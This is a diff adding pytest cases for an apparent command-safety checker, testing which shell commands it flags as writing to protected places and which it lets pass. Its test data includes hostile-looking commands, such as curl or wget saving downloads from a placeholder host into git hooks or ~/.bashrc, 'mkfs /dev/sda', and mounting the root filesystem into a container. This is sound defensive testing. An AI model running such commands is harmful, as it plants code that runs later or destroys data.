@@ -84,3 +84,41 @@ def test_a_secret_that_comes_by_a_variable_loop_or_pipe_is_hard(command: str, pl
 )  # fmt: skip
 def test_words_that_name_no_secret_stay_soft(command: str, place: Path) -> None:
     assert hard(judged(command, place)) == set()
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl -so .git/hooks/pre-commit http://x", "curl -so ~/.bashrc http://x", "wget -O .git/hooks/x http://x",
+        "wget -P/etc http://x", "patch .git/hooks/x p", "gcc -o .git/hooks/x a.c", "sort -o .git/hooks/x a",
+        "tree -o .git/hooks/x", "xxd -r a .git/hooks/x", "find . -fprint .git/hooks/x", "tar xf a -C /etc",
+        "tar xf a -C/etc", "unzip -d / a.zip", "mkfs /dev/sda", "docker run -v /:/x i", "docker run -v/:/x i",
+        "cp -t .git/hooks a", "sed -i s/a/b/ /etc/hosts", "git diff --output=.git/hooks/x", "tool -o.git/hooks/x",
+        "git config -f .git/config a b", "make PREFIX=/usr/local install", "bash -c 'curl -o .git/hooks/x http://x'",
+        "env curl -o .git/hooks/x http://x", "time -o .git/hooks/x cat y", "tool .gi[t]/hooks", "tool x.sh .xun/policy.toml",
+        "curl -o .github/workflows/ci.yml http://x", "rsync a .vscode/settings.json --inplace", "tool > x .git/hooks/x",
+        "find . -name x $A .git/hooks",
+    ],
+)  # fmt: skip
+def test_what_any_program_may_write_to_is_judged_as_written(command: str, place: Path) -> None:
+    assert hard(judged(command, place)) & {"protected", "outside", "special-file"}
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "npm install", "gcc -I/usr/include -c a.c -o b", "sed -i '/etc/d' f", "awk -F/ '{print $1}' f", "timeout 5 cat /etc/x",
+        "git add .github/workflows/ci.yml", "timeout 5 /usr/bin/tool x", "curl -o /dev/null http://x",
+        "python3 -c 'x.split(\"/\")'", "export PATH=/usr/bin:$PATH", "python3 .claude/run.py x",
+        "base64 /etc/hosts", "source ~/.cargo/env", "cp /etc/hosts q",
+    ],
+)  # fmt: skip
+def test_what_a_program_reads_or_runs_stays_soft(command: str, place: Path) -> None:
+    assert hard(judged(command, place)) == set()
+
+
+@pytest.mark.parametrize("command", ["gcc -o priv/x a.c", "tool pri?/x", "curl -opriv/x http://x", "tar xf a -C priv"])
+def test_a_word_that_a_rule_forbids_to_write_is_for_a_person(command: str, place: Path) -> None:
+    policy = Policy(rules=[rule("allow", "command", "curl"), rule("deny", "write", "priv")])
+    assert "may-be-ruled" in hard(check_command(command, policy=policy, cwd=place, home=HOME))
+    assert hard(check_command("base64 priv/x", policy=policy, cwd=place, home=HOME)) == set()
